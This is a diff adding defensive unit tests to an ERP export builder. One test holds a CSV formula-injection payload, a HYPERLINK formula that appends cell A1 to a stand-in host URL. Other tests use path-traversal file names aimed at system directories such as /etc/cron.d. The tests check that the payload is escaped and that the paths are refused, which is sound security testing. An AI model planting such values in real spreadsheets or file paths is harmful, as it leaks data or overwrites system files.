@@ -356,6 +356,45 @@ describe('ERP File › Build File', () => {
 		]);
 	});
 
+	it('CSV: a note a spreadsheet would run as a formula is written as text (default), or as it is when switched off', async () => {
+		const order = makeOrder(10, { notes: '=HYPERLINK("http://zly.example/?"&A1;"Faktura")' });
+		const text = async (extra: Record<string, unknown>) => {
+			const r = await build(
+				{ outputFormat: 'csv', buildEntity: 'order', csvEncoding: 'utf-8', csvDelimiter: ';', ...extra },
+				[order],
+			);
+			expect(r.error).toBeUndefined();
+			return decodeText(Buffer.from(r.output![0][0].binary!.data.data, 'base64'), 'utf-8').text;
+		};
+		const safe = await text({});
+		expect(safe).toContain(`"'=HYPERLINK(""http://zly.example/?""&A1;""Faktura"")"`);
+		expect(safe).not.toMatch(/(^|;)"?=/m);
+		const raw = await text({ csvEscapeFormulae: false });
+		expect(raw).toMatch(/;"=HYPERLINK\(/);
+	});
+
+	it.each([
+		['../../etc/cron.d/zamowienia.epp'],
+		['..\\..\\Windows\\zamowienia.epp'],
+		['eksport/zamowienia.epp'],
+		['C:\\eksport\\zamowienia.epp'],
+		['..'],
+		['zamowienia..epp/..'],
+	])('refuses the File Name %p: a name, not a path', async (fileName) => {
+		const r = await build({ outputFormat: 'epp', fileName }, [GOLDEN_ORDER]);
+		expect(r.output).toBeNull();
+		expect(r.error?.message).toMatch(/^File Name ".*" is a path: .*"\/", "\\" and "\.\." are not allowed/);
+	});
+
+	it('cleans the File Name like invoice PDF names: characters other than letters, digits, "_", "." and "-" become "_"', async () => {
+		const r = await build({ outputFormat: 'json', buildEntity: 'order', fileName: 'zamówienia 2026:11*?<>|.json' }, [
+			makeOrder(9),
+		]);
+		expect(r.error).toBeUndefined();
+		expect(r.output![0][0].json.fileName).toBe('zam_wienia_2026_11_.json');
+		expect(r.output![0][0].binary!.data.fileName).toBe('zam_wienia_2026_11_.json');
+	});
+
 	it('JSON of orders from a record field', async () => {
 		const r = await build({ outputFormat: 'json', buildEntity: 'order', recordField: 'order', fileName: 'o.json' }, [{ order: makeOrder(9) }]);
 		const parsed = JSON.parse(Buffer.from(r.output![0][0].binary!.data.data, 'base64').toString('utf8'));
